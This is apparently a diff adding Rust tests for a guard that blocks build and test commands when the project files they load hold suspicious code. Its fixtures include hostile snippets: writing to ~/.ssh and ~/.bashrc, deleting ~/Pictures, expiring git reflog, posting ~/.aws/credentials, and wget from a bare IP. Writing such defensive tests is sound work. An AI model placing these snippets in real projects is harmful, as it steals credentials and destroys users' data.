@@ -1,0 +1,97 @@
+//! What a tool loads from the project in a language without a reader is searched for what such code seldom names.
+
+use crate::javascript::project;
+use crate::knowledge::{allowed_in, stopped_in};
+
+#[test]
+fn files_that_a_tool_loads_are_searched_in_any_language() {
+    let taken = "File.new(\"${System.getProperty('user.home')}/.ssh/known\").append(key)\n";
+    for (files, command) in [
+        // by a folder of settings, a mention by name, by path, by a dotted name, in an included file
+        (vec![("build.gradle", ""), ("buildSrc/src/main/groovy/a.gradle", taken)], "gradle check"),
+        (vec![("pom.xml", "<project/>"), (".mvn/x.groovy", taken)], "mvn package"),
+        (
+            vec![
+                ("docs/conf.py", "extensions = ['stamped']\n"),
+                ("docs/_ext/stamped.py", "import os\nopen(os.path.expanduser('~/.bashrc'), mode).write(x)\n"),
+            ],
+            "sphinx-build docs out",
+        ),
+        (
+            vec![
+                ("CMakeLists.txt", "include(cmake/Version.cmake)\n"),
+                ("cmake/Version.cmake", "execute_process(COMMAND ${g} \"reflog\" \"expire\" --all)\n"),
+            ],
+            "cmake -B out",
+        ),
+        (
+            vec![
+                ("mix.exs", "import_config \"own.exs\"\n"),
+                ("config/own.exs", "home = System.user_home!()\nFile.rm_rf!(Path.join(home, \"Pictures\"))\n"),
+            ],
+            "mix test",
+        ),
+        (
+            vec![
+                ("pyproject.toml", "[tool.pytest.ini_options]\naddopts = \"-p tests.support.seconds\"\n"),
+                ("tests/support/seconds.py", "def pytest_configure(c):\n    post(open(h + '/.aws/credentials'))\n"),
+            ],
+            "pytest -q",
+        ),
+        (
+            vec![
+                ("Directory.Build.targets", "<Import Project=\"eng/V.targets\" />"),
+                ("eng/V.targets", "<Exec Command=\"wget http://203.0.113.7/d\" />"),
+                ("a.csproj", ""),
+            ],
+            "dotnet build",
+        ),
+    ] {
+        let root = project(&files);
+        stopped_in(root.path(), &[command]);
+    }
+}
+
+#[test]
+fn ordinary_settings_are_not_suspect() {
+    let gradle = "// copies ~/.ssh is not done here\nplugins { id 'java' }\nrepositories { mavenCentral() }\n";
+    let root = project(&[
+        ("build.gradle", gradle),
+        ("buildSrc/src/main/groovy/a.gradle", "def home = System.getProperty('user.home')\nprintln home\n"),
+        (
+            "docs/conf.py",
+            "project = 'a'\nextensions = ['own']\nhtml_theme_options = {'url': 'https://a.example.org'}\n",
+        ),
+        ("docs/_ext/own.py", "def setup(app):\n    app.connect('x', write)\n"),
+        ("CMakeLists.txt", "project(a C)\nadd_library(a a.c)\ninstall(TARGETS a)\n"),
+        ("config/ssh.exs", "config :a, ssh: [port: 22], delete: true\n"),
+        ("mix.exs", "defmodule A do\nend\n"),
+    ]);
+    allowed_in(root.path(), &["gradle check", "sphinx-build docs out", "cmake -B out", "mix test"]);
+}
+
+#[test]
+fn sources_of_packages_that_settings_name_are_asked_about() {
+    for (files, command) in [
+        (vec![("package.json", "{}"), ("package-lock.json", "{\"resolved\": \"http://203.0.113.3/a.tgz\"}")], "npm ci"),
+        (vec![("requirements.txt", "a==1\n"), ("x.conf", "[global]\nindex-url = https://i.example.net\n")], PIP),
+        (vec![("pyproject.toml", ""), ("uv.toml", "[[index]]\nurl = \"https://i.example.net\"\n")], "uv sync"),
+        (
+            vec![("x.py", "# /// script\n# dependencies = [\"a @ https://f.example.net/a.whl\"]\n# ///\n")],
+            "uv run x.py",
+        ),
+        (vec![("composer.json", "{\"repositories\": [{\"url\": \"http://p.example.net\"}]}")], "composer install"),
+    ] {
+        let root = project(&files);
+        stopped_in(root.path(), &[command]);
+    }
+    let root = project(&[
+        ("package.json", "{}"),
+        ("package-lock.json", "{\"resolved\": \"https://registry.npmjs.org/a/-/a-1.tgz\"}"),
+        ("pyproject.toml", "[project.urls]\nHomepage = \"https://a.example.org\"\n"),
+        ("composer.json", "{\"homepage\": \"https://a.example.org\"}"),
+    ]);
+    allowed_in(root.path(), &["npm ci", "uv sync", "composer install"]);
+}
+
+const PIP: &str = "PIP_CONFIG_FILE=x.conf pip install -r requirements.txt";
